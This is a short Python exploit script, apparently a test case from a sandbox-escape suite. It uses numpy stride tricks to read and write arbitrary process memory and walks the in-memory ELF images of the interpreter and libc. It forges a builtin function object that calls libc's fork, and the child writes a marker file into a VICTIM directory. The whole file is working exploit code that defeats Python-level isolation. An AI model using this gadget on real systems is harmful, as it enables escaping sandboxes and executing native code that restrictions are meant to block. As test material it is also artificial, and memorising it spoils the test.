# kind: gadgets
# tries: The same with libc's fork; the child writes
# control: none

from pathlib import Path

import numpy as np

strided = np.lib.stride_tricks.as_strided
origin = np.zeros(8, dtype="u1")
KEEP = [origin]
BOUND = (b"malloc", b"free", b"memcpy", b"strlen", b"abort", b"getpid", b"__errno_location")


def at(address, size):
    """A view of any address: an array whose outer stride is the distance to it."""
    return strided(origin, shape=(2, size), strides=(address - origin.ctypes.data, 1))[1]


def word(address, size=8):
    return int.from_bytes(at(address, size).tobytes(), "little")


def text(address):
    return at(address, 48).tobytes().split(b"\0")[0]


def image(address):
    """The start of the ELF image in memory that an address lies in."""
    page = address & ~0xFFF
    while at(page, 4).tobytes() != b"\x7fELF":
        page -= 0x1000
    return page


def dynamic(base):
    for i in range(word(base + 56, 2)):
        entry = base + word(base + 32) + 56 * i
        if word(entry, 4) == 2:
            where, tags = base + word(entry + 16), {}
            while word(where):
                tags[word(where)] = word(where + 8)
                where += 16
            return tags
    return {}


def symbols(base):
    tags = dynamic(base)
    names, table = ((tags[t] if tags[t] > base else tags[t] + base) for t in (5, 6))
    return tags, names, table


def imported(base):
    """An address in libc that a relocation of this image is bound to."""
    tags, names, table = symbols(base)
    for start, size in ((7, 8), (23, 2)):
        first = tags.get(start, 0)
        first = first if first > base else first + base
        for entry in range(first, first + tags.get(size, 0), 24):
            number = word(entry + 12, 4)
            if number and text(names + word(table + 24 * number, 4)) in BOUND:
                target = word(base + word(entry))
                if target and image(target) != base:
                    return target
    return 0


def exported(base, name):
    _, names, table = symbols(base)
    for entry in range(table, names, 24):
        if word(entry + 8) and text(names + word(entry, 4)) == name:
            return base + word(entry + 8)
    return 0


def pointer(raw):
    array = np.frombuffer(bytearray(raw), dtype="u1")
    KEEP.append(array)
    return array.ctypes.data.to_bytes(8, "little")


python = image(word(word(id(len) + 16) + 8))
libc = image(imported(python))
table = bytearray(at(word(id(len) + 16), 32).tobytes())
table[8:16] = exported(libc, b"fork").to_bytes(8, "little")
fake = bytearray(at(id(len), 56).tobytes())
fake[16:24] = pointer(table)
fake[24:32] = pointer(b"\0")  # self, the first argument of the C function
slots = np.array([None], dtype=object)
KEEP.append(slots)
at(slots.ctypes.data, 8)[:] = np.frombuffer(pointer(fake), dtype="u1")
try:
    slots[0](511)
except SystemError:
    Path(VICTIM["dir"], VICTIM["nonce"]).write_text("from the child")
